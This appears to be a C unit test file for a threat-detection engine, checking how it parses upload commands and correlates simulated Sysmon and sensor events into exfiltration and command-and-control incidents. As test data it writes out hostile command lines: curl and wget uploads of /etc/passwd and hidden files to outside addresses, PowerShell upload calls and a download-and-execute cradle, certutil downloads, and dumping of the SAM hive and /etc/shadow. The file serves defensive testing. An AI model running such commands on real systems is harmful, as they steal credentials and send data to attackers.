/* src/behaviour/evidence.c and what an incident claims from it.
 *
 * An incident says "exfiltration" only when data left (bytes sent out, an
 * upload of a file the logs showed before) and "command and control" only
 * when a process of it talked to an outside address, whatever its rules are
 * tagged with; the crown-jewel alert "Data Sent Out" needs bytes sent where
 * the sensor counts them. The command-line reader is checked tool by tool,
 * with the near misses that must not count: downloads, stdin, a download
 * cradle that reads a file. Hunts run over hand-made events in the shapes
 * Sysmon and the live sensor give. */
#include "testutil.h"

#include "behaviour/evidence.h"

/* ------------------------------------------------------------ addresses */

static void test_outside(void **state)
{
    (void)state;
    static const char *const outside[] = {"203.0.113.7", "8.8.8.8",        "172.32.0.1", "198.51.100.23",
                                          "2001:db8::1", "::ffff:8.8.8.8", NULL};
    static const char *const inside[] = {"10.1.2.3",
                                         "172.16.0.1",
                                         "172.31.255.255",
                                         "192.168.1.1",
                                         "127.0.0.1",
                                         "169.254.1.1",
                                         "100.64.0.1",
                                         "0.0.0.0",
                                         "224.0.0.251",
                                         "::1",
                                         "::",
                                         "fe80::1",
                                         "fd00::1",
                                         "ff02::1",
                                         "::ffff:10.0.0.1",
                                         "not an address",
                                         "",
                                         NULL};
    for (const char *const *p = outside; *p; p++)
        assert_true(evidence_outside(*p));
    for (const char *const *p = inside; *p; p++)
        assert_false(evidence_outside(*p));
    assert_false(evidence_outside(NULL));
}

/* ------------------------------------------------------- command lines */

static void expect_upload(const char *image, const char *cmd, const char *cwd, const char *want)
{
    char out[512];
    const char *got = evidence_upload_file(image, cmd, cwd, out, sizeof(out));
    if (!want) {
        if (got)
            fail_msg("%s: no upload expected, got %s", cmd, got);
        return;
    }
    if (!got)
        fail_msg("%s: expected an upload of %s", cmd, want);
    assert_string_equal(got, want);
}

static void test_upload_commands(void **state)
{
    (void)state;
    /* curl */
    expect_upload("/usr/bin/curl", "curl -sk -T /dev/shm/.x.aa https://203.0.113.17/up/", NULL, "/dev/shm/.x.aa");
    expect_upload("/usr/bin/curl", "curl -skT/tmp/a https://x/", NULL, "/tmp/a");
    expect_upload("/usr/bin/curl", "curl --upload-file=/tmp/b https://x/", NULL, "/tmp/b");
    expect_upload("/usr/bin/curl", "curl --upload-file /tmp/b2 https://x/", NULL, "/tmp/b2");
    expect_upload("/usr/bin/curl", "curl -sk --data-binary @/dev/shm/.x.ac https://x/c", NULL, "/dev/shm/.x.ac");
    expect_upload("/usr/bin/curl", "curl -F 'file=@/tmp/d;type=text/plain' https://x/", NULL, "/tmp/d");
    expect_upload("/usr/bin/curl", "curl -d @data.json https://x/", "/home/u", "/home/u/data.json");
    expect_upload("C:\\Windows\\System32\\curl.exe", "curl.exe -k -T C:\\ProgramData\\s2.rar https://x/in/", NULL,
                  "C:\\ProgramData\\s2.rar");
    expect_upload("C:\\Windows\\System32\\curl.exe", "curl.exe -T s3.rar https://x/in/", "C:\\Users\\m\\",
                  "C:\\Users\\m\\s3.rar");
    expect_upload("/usr/bin/curl", "curl -o /tmp/out https://x/file", NULL, NULL); /* a download */
    expect_upload("/usr/bin/curl", "curl -sko /tmp/out https://x/file", NULL, NULL);
    expect_upload("/usr/bin/curl", "curl -d name=value https://x/", NULL, NULL); /* no file */
    expect_upload("/usr/bin/curl", "curl -T - https://x/", NULL, NULL);          /* standard input */
    expect_upload("/usr/bin/curl", "curl -H 'X-T: -T /etc/passwd' https://x/", NULL, NULL);
    /* wget */
    expect_upload("/usr/bin/wget", "wget --post-file=/etc/passwd http://x/", NULL, "/etc/passwd");
    expect_upload("/usr/bin/wget", "wget -q http://x/a -O /tmp/a", NULL, NULL);
    /* copies: an upload when the destination is remote */
    expect_upload("/usr/bin/scp", "scp -P 443 /srv/specs/a.pdf svc@198.51.100.23:in/", NULL, "/srv/specs/a.pdf");
    expect_upload("/usr/bin/scp", "scp -oStrictHostKeyChecking=no /srv/a.pdf svc@h:in/", NULL, "/srv/a.pdf");
    expect_upload("/usr/bin/scp", "scp svc@h:in/a.pdf /tmp/", NULL, NULL);
    expect_upload("C:\\Tools\\pscp.exe", "pscp.exe -pw secret C:\\a\\b.zip u@h:/tmp/", NULL, "C:\\a\\b.zip");
    expect_upload("/usr/bin/rsync", "rsync -az /srv/design/ backup01:/backups/", NULL, "/srv/design/");
    expect_upload("/usr/bin/rsync", "rsync -az backup01:/backups/ /srv/restore/", NULL, NULL);
    expect_upload("/usr/bin/rclone", "rclone copy /srv/x remote:bucket", NULL, "/srv/x");
    expect_upload("/usr/local/bin/aws", "aws s3 cp /srv/x.tgz s3://bucket/", NULL, "/srv/x.tgz");
    expect_upload("/usr/local/bin/aws", "aws s3 cp s3://bucket/x.tgz /tmp/", NULL, NULL);
    /* PowerShell: the script is one quoted argument */
    expect_upload("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                  "powershell.exe -nop -w hidden -c \"Invoke-WebRequest -Uri https://x/in/s1.txt -Method PUT "
                  "-InFile C:\\ProgramData\\s1.txt -UseBasicParsing\"",
                  NULL, "C:\\ProgramData\\s1.txt");
    expect_upload("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                  "powershell -c \"(New-Object Net.WebClient).UploadFile('http://x/up', 'C:\\a\\b.zip')\"", NULL,
                  "C:\\a\\b.zip");
    expect_upload("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                  "powershell -c \"$d=[IO.File]::ReadAllBytes('C:\\a\\c.bin'); (New-Object Net.WebClient)"
                  ".UploadData('http://x/', $d)\"",
                  NULL, "C:\\a\\c.bin");
    /* a download cradle that also reads a file sends nothing */
    expect_upload("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                  "powershell -nop -c \"$k=[IO.File]::ReadAllBytes('C:\\Users\\a\\key.bin'); IEX (New-Object "
                  "Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')\"",
                  NULL, NULL);
    /* bitsadmin: only /upload */
    expect_upload("C:\\Windows\\System32\\bitsadmin.exe", "bitsadmin /transfer j /upload http://x/up C:\\a\\d.txt",
                  NULL, "C:\\a\\d.txt");
    expect_upload("C:\\Windows\\System32\\bitsadmin.exe", "bitsadmin /transfer j http://x/a.exe C:\\a\\a.exe", NULL,
                  NULL);
    /* not an upload tool */
    expect_upload("C:\\Windows\\System32\\certutil.exe", "certutil -urlcache -split -f http://x/a C:\\a", NULL, NULL);
}

/* -------------------------------------------------------------- hunting */

/* What a hunt said, as lines: "alert: TITLE", "incident: TITLE [tactics]",
 * "evidence: TACTIC TEXT". */
struct said {
    struct tu_str log;
    unsigned alerts, incidents;
};

static stoat_err said_alert(void *ctx, const struct stoat_alert *a)
{
    struct said *s = ctx;
    s->alerts++;
    tu_str_printf(&s->log, "alert: %s\n", a->rule->title);
    return STOAT_OK;
}

static stoat_err said_incident(void *ctx, const struct stoat_incident *inc)
{
    struct said *s = ctx;
    s->incidents++;
    tu_str_printf(&s->log, "incident: %s [", inc->title);
    for (size_t i = 0; i < inc->ntactics; i++)
        tu_str_printf(&s->log, "%s%s", i ? " " : "", inc->tactics[i]);
    tu_str_puts(&s->log, "]\n");
    for (size_t i = 0; i < inc->nevidence; i++)
        tu_str_printf(&s->log, "evidence: %s %s\n", inc->evidence[i].tactic ? inc->evidence[i].tactic : "-",
                      inc->evidence[i].text);
    return STOAT_OK;
}

static const char *said_text(const struct said *s)
{
    return s->log.p ? s->log.p : "";
}

static struct stoat_ruleset *load(const char *rules, const char *jewels)
{
    char *jp = jewels ? tu_temp_text(jewels, ".yml") : NULL;
    struct tu_diags ds = {0};
    struct stoat_load_opts lo = {.mapping_path = tu_mapping(), .jewels_path = jp, .diag = tu_diag_cb, .diag_ctx = &ds};
    struct stoat_loader *l = NULL;
    struct stoat_ruleset *rs = NULL;
    assert_int_equal(stoat_loader_create(&lo, &l), STOAT_OK);
    if (rules)
        assert_int_equal(stoat_loader_add_text(l, "rules.yml", rules, strlen(rules)), STOAT_OK);
    assert_int_equal(stoat_loader_build(l, &rs), STOAT_OK);
    stoat_loader_destroy(l);
    if (tu_diags_count(&ds, STOAT_SEV_ERROR))
        tu_diags_print(&ds, "loading");
    assert_int_equal(tu_diags_count(&ds, STOAT_SEV_ERROR), 0);
    tu_diags_free(&ds);
    if (jp) {
        unlink(jp);
        free(jp);
    }
    return rs;
}

/* Hunts the events; live: as stoat watch does (bytes awaited, lateness). */
static void hunt(const struct stoat_ruleset *rs, const char *events, bool live, struct said *out)
{
    memset(out, 0, sizeof(*out));
    char path[256];
    tu_write_temp(events, strlen(events), ".jsonl", path, sizeof(path));
    struct tu_diags ds = {0};
    struct stoat_hunt_opts ho = {
        .threads = 1, .diag = tu_diag_cb, .diag_ctx = &ds, .behaviour = {.incident_min_score = 1, .corr_live = live}};
    struct stoat_hunt *h = NULL;
    assert_int_equal(stoat_hunt_create(rs, &ho, &h), STOAT_OK);
    struct stoat_sink sink = {.ctx = out, .alert = said_alert, .incident = said_incident};
    assert_int_equal(stoat_hunt_add_sink(h, &sink), STOAT_OK);
    const char *paths[1] = {path};
    assert_int_equal(stoat_hunt_run(h, paths, 1), STOAT_OK);
    stoat_hunt_destroy(h);
    unlink(path);
    assert_int_equal(tu_diags_count(&ds, STOAT_SEV_ERROR), 0);
    tu_diags_free(&ds);
}

#define RULE(id, title, logsource, det, level, tags)                                              \
    "---\ntitle: " title "\nid: " id "\nstatus: test\nlogsource: " logsource "\ndetection:\n" det \
    "    condition: sel\nlevel: " level "\ntags: " tags "\n"

static const char *win_rules = RULE("0e000000-0000-4000-8000-000000000001", "Discovery With whoami",
                                    "{product: windows, category: process_creation}",
                                    "    sel:\n        Image|endswith: '\\whoami.exe'\n", "low", "[attack.discovery]")
    RULE("0e000000-0000-4000-8000-000000000002", "Registry Hive Saved",
         "{product: windows, category: process_creation}", "    sel:\n        CommandLine|contains: 'reg save'\n",
         "low", "[attack.credential-access]")
        RULE("0e000000-0000-4000-8000-000000000003", "PowerShell Reads And Sends A File",
             "{product: windows, category: process_creation}",
             "    sel:\n        CommandLine|contains: 'ReadAllBytes'\n", "high",
             "[attack.exfiltration, attack.command-and-control]");

#define WIN_PROC(t, guid, image, cmd)                                                                           \
    "{\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"EventID\":1,\"Computer\":\"ws1\",\"UtcTime\":\"" t \
    "\",\"ProcessGuid\":\"" guid "\",\"ProcessId\":"                                                            \
    "100"                                                                                                       \
    ",\"ParentProcessGuid\":\"{P}\",\"Image\":\"" image "\",\"CommandLine\":\"" cmd "\",\"LogonId\":\"0x1234\"}\n"

/* A PowerShell download cradle that calls ReadAllBytes, under a rule tagged
 * exfiltration and command and control: the alert keeps its tags, the
 * incident claims no exfiltration (nothing was uploaded), and command and
 * control only for the connection it made. */
static void test_cradle_claims_no_exfiltration(void **state)
{
    (void)state;
    struct stoat_ruleset *rs = load(win_rules, NULL);
    const char *ps = "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe";
    struct tu_str ev = {0};
    tu_str_puts(&ev, WIN_PROC("2026-11-19 22:00:00.000", "{A}", "C:\\\\Windows\\\\System32\\\\whoami.exe", "whoami"));
    tu_str_puts(&ev, WIN_PROC("2026-11-19 22:01:00.000", "{B}", "C:\\\\Windows\\\\System32\\\\reg.exe",
                              "reg save hklm\\\\sam C:\\\\t\\\\sam.hiv"));
    tu_str_printf(&ev,
                  "{\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"EventID\":1,\"Computer\":\"ws1\","
                  "\"UtcTime\":\"2026-11-19 22:02:00.000\",\"ProcessGuid\":\"{C}\",\"ProcessId\":300,"
                  "\"Image\":\"%s\",\"CommandLine\":\"powershell -nop -c \\\"$k=[IO.File]::ReadAllBytes('C:\\\\t\\\\"
                  "sam.hiv'); IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')\\\"\","
                  "\"LogonId\":\"0x1234\"}\n",
                  ps);
    tu_str_printf(&ev,
                  "{\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"EventID\":3,\"Computer\":\"ws1\","
                  "\"UtcTime\":\"2026-11-19 22:02:01.000\",\"ProcessGuid\":\"{C}\",\"ProcessId\":300,"
                  "\"Image\":\"%s\",\"Initiated\":\"true\",\"DestinationIp\":\"203.0.113.5\","
                  "\"DestinationPort\":80}\n",
                  ps);
    struct said s;
    hunt(rs, ev.p, false, &s);
    const char *t = said_text(&s);
    assert_non_null(strstr(t, "alert: PowerShell Reads And Sends A File"));
    assert_int_equal(s.incidents, 1);
    assert_null(strstr(t, "exfiltration"));
    assert_non_null(strstr(t, "-> command and control"));
    assert_non_null(strstr(t, "evidence: command-and-control connection to 203.0.113.5:80 by powershell.exe"));
    tu_str_free(&s.log);
    /* without the connection, no command and control either */
    char *cut = strstr(ev.p, "{\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"EventID\":3");
    *cut = 0;
    hunt(rs, ev.p, false, &s);
    t = said_text(&s);
    assert_int_equal(s.incidents, 1);
    assert_null(strstr(t, "command and control"));
    assert_null(strstr(t, "command-and-control]"));
    tu_str_free(&s.log);
    tu_str_free(&ev);
    stoat_ruleset_destroy(rs);
}

#define LNX(t, eid, guid, pid, pguid, image, rest)                                                                  \
    "{\"Channel\":\"stoat-sensor\",\"EventID\":" #eid ",\"Computer\":\"srv\",\"UtcTime\":\"2026-11-19 " t           \
    "\",\"ProcessGuid\":\"" guid "\",\"ProcessId\":" #pid ",\"ParentProcessGuid\":\"" pguid "\",\"Image\":\"" image \
    "\",\"LogonId\":\"7\"" rest "}\n"

static const char *lnx_rules =
    RULE("0e000000-0000-4000-8000-000000000011", "Discovery With id", "{product: linux, category: process_creation}",
         "    sel:\n        Image|endswith: '/id'\n", "low", "[attack.discovery]")
        RULE("0e000000-0000-4000-8000-000000000012", "Shadow Read", "{product: linux, category: process_creation}",
             "    sel:\n        CommandLine|contains: '/etc/shadow'\n", "low", "[attack.credential-access]")
            RULE("0e000000-0000-4000-8000-000000000013", "File Uploaded With curl -T",
                 "{product: linux, category: process_creation}",
                 "    sel:\n        Image|endswith: '/curl'\n        CommandLine|contains: ' -T '\n", "medium",
                 "[attack.exfiltration]");

static const char *jewels = "paths: ['/srv/design/*']\ntransfer_window: 1h\n";

/* the start of the story and the jewel read by cat in the same shell */
#define STORY                                                                                                    \
    LNX("22:00:00.000", 1, "{G1}", 100, "{G0}", "/usr/bin/bash", ",\"CommandLine\":\"bash\"")                    \
    LNX("22:00:01.000", 1, "{G2}", 101, "{G1}", "/usr/bin/id", ",\"CommandLine\":\"id\"")                        \
    LNX("22:00:02.000", 1, "{G3}", 102, "{G1}", "/usr/bin/cat", ",\"CommandLine\":\"cat /etc/shadow\"")          \
    LNX("22:00:03.000", 1, "{G4}", 103, "{G1}", "/usr/bin/cat", ",\"CommandLine\":\"cat spec\"")                 \
    LNX("22:00:03.100", 11, "{G4}", 103, "{G1}", "/usr/bin/cat", ",\"TargetFilename\":\"/srv/design/spec.txt\"") \
    LNX("22:01:00.000", 1, "{G5}", 104, "{G1}", "/usr/bin/curl",                                                 \
        ",\"CommandLine\":\"curl -s -T /srv/design/spec.txt http://203.0.113.7:9/up\"")

static unsigned count(const char *hay, const char *needle)
{
    unsigned n = 0;
    for (const char *p = hay; (p = strstr(p, needle)); p++)
        n++;
    return n;
}

/* Live (the sensor counts bytes): curl -T to a closed port sends nothing,
 * so no "Data Sent Out" and no exfiltration in the incident, which says
 * that nothing was sent; the same upload that gets through is both, with
 * the byte count. */
static void test_live_upload_needs_bytes(void **state)
{
    (void)state;
    struct stoat_ruleset *rs = load(lnx_rules, jewels);
    struct said s;
    hunt(rs,
         STORY LNX("22:01:00.100", 3, "{G5}", 104, "{G1}", "/usr/bin/curl",
                   ",\"Initiated\":\"true\",\"DestinationIp\":\"203.0.113.7\",\"DestinationPort\":\"9\","
                   "\"NetworkEvent\":\"connect\",\"ConnectionFailed\":\"true\""),
         true, &s);
    const char *t = said_text(&s);
    assert_non_null(strstr(t, "alert: Crown Jewel File Opened By An Unusual Process"));
    assert_non_null(strstr(t, "alert: File Uploaded With curl -T")); /* the rule's alert stands */
    assert_null(strstr(t, "Data Sent Out"));
    assert_int_equal(s.incidents, 1);
    assert_null(strstr(t, "exfiltration ->"));
    assert_null(strstr(t, "-> exfiltration"));
    assert_null(strstr(t, "command and control"));
    assert_non_null(strstr(t, "evidence: - nothing sent by curl (pid 104) to 203.0.113.7:9: the connection failed"));
    tu_str_free(&s.log);

    hunt(rs,
         STORY LNX("22:01:00.100", 3, "{G5}", 104, "{G1}", "/usr/bin/curl",
                   ",\"Initiated\":\"true\",\"DestinationIp\":\"203.0.113.7\",\"DestinationPort\":\"443\","
                   "\"NetworkEvent\":\"connect\"")
             LNX("22:01:02.000", 3, "{G5}", 104, "{G1}", "/usr/bin/curl",
                 ",\"Initiated\":\"true\",\"DestinationIp\":\"203.0.113.7\",\"DestinationPort\":\"443\","
                 "\"NetworkEvent\":\"close\",\"BytesSent\":\"1200000\",\"BytesReceived\":\"310\""),
         true, &s);
    t = said_text(&s);
    assert_int_equal(count(t, "alert: Data Sent Out After Crown-Jewel Access"), 1);
    assert_int_equal(s.incidents, 1);
    assert_non_null(strstr(t, "-> exfiltration"));
    assert_non_null(strstr(t, "evidence: exfiltration 1.2 MB sent to 203.0.113.7:443 by curl (pid 104)"));
    assert_non_null(strstr(t, "evidence: command-and-control connection to 203.0.113.7:443 by curl (pid 104)"));
    tu_str_free(&s.log);
    stoat_ruleset_destroy(rs);
}

/* From logs, which count no bytes: an upload of a file the logs showed is
 * the evidence; a file never seen is not; a failed connection recorded for
 * the process still contradicts it. */
static void test_logged_upload_needs_a_known_file(void **state)
{
    (void)state;
    struct stoat_ruleset *rs = load(lnx_rules, NULL);
    const char *conn = LNX("22:01:00.100", 3, "{G5}", 104, "{G1}", "/usr/bin/curl",
                           ",\"Initiated\":\"true\",\"DestinationIp\":\"203.0.113.7\",\"DestinationPort\":\"9\"");
    struct tu_str ev = {0};
    tu_str_puts(&ev, STORY);
    tu_str_puts(&ev, conn);
    struct said s;
    hunt(rs, ev.p, false, &s);
    const char *t = said_text(&s);
    assert_non_null(strstr(t, "-> exfiltration"));
    assert_non_null(strstr(t, "evidence: exfiltration upload of /srv/design/spec.txt by curl (pid 104), a file seen "
                              "on the host before"));
    tu_str_free(&s.log);
    /* the file event gone: the file was never shown to exist */
    char *fe = strstr(ev.p, "{\"Channel\":\"stoat-sensor\",\"EventID\":11");
    char *end = strchr(fe, '\n');
    memmove(fe, end + 1, strlen(end + 1) + 1);
    hunt(rs, ev.p, false, &s);
    t = said_text(&s);
    assert_null(strstr(t, "-> exfiltration"));
    assert_non_null(strstr(t, "evidence: - upload of /srv/design/spec.txt by curl (pid 104): the file was not seen"));
    tu_str_free(&s.log);
    tu_str_free(&ev);
    /* the file known, but the connection failed */
    tu_str_puts(&ev, STORY);
    tu_str_puts(&ev, LNX("22:01:00.100", 3, "{G5}", 104, "{G1}", "/usr/bin/curl",
                         ",\"Initiated\":\"true\",\"DestinationIp\":\"203.0.113.7\",\"DestinationPort\":\"9\","
                         "\"ConnectionFailed\":\"true\""));
    hunt(rs, ev.p, false, &s);
    t = said_text(&s);
    assert_null(strstr(t, "-> exfiltration"));
    assert_non_null(strstr(t, "nothing sent by curl (pid 104)"));
    tu_str_free(&s.log);
    tu_str_free(&ev);
    stoat_ruleset_destroy(rs);
}

/* The evidence rules are machinery: not counted, not in the public list,
 * not deselected by a selection that keeps nothing of theirs. */
static void test_evidence_rules_hidden(void **state)
{
    (void)state;
    struct stoat_ruleset *rs = load(lnx_rules, NULL);
    assert_int_equal(stoat_ruleset_count(rs), 3);
    assert_int_equal(stoat_ruleset_find(rs, EVIDENCE_RULE_NET), -1);
    stoat_ruleset_destroy(rs);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_outside),
        cmocka_unit_test(test_upload_commands),
        cmocka_unit_test(test_cradle_claims_no_exfiltration),
        cmocka_unit_test(test_live_upload_needs_bytes),
        cmocka_unit_test(test_logged_upload_needs_a_known_file),
        cmocka_unit_test(test_evidence_rules_hidden),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
